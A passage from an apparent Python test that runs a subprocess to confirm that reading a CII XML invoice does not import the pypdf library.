        f"read_invoice_document(open({str(DOCUMENTS / 'cii_invoice.xml')!r}, 'rb').read(), 'application/xml'); "
        "sys.exit('pypdf' in sys.modules)"
    )
    subprocess.run([sys.executable, "-c", script], check=True, cwd=ROOT / "layers" / "common")
